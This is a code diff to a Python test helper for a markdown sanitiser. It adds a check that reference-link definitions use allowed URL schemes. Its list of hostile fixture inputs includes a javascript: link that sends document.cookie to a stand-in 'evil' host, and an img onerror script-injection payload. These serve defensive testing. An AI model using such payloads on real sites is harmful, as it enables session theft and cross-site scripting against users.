@@ -3,12 +3,13 @@
 from __future__ import annotations
 
 import re
+from typing import Any
 
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from bitbd.answer.markdown import IMAGE_SCHEMES, LINK_SCHEMES
+from bitbd.answer.markdown import DEFINITION_SCHEMES, IMAGE_SCHEMES, LINK_SCHEMES
 
 HOSTILE = [
     "[Verify your account](javascript:fetch('//evil/'+document.cookie))", "<img src=x onerror=alert(1)>",
@@ -56,5 +57,10 @@ def unsafe_parts(markdown: str) -> list[str]:
                     found.append(f"{token.type} {url!r}")
             visit(token.children or [])
 
-    visit(_MD.parse(markdown))
+    env: dict[str, Any] = {}
+    visit(_MD.parse(markdown, env))
+    for label, ref in env.get("references", {}).items():  # defined, even if nothing uses it (yet)
+        url = re.sub(r"[\x00-\x20\x7f]", "", str(ref["href"])).lower()
+        if not url.startswith(DEFINITION_SCHEMES):
+            found.append(f"definition {label} {url!r}")
     return found
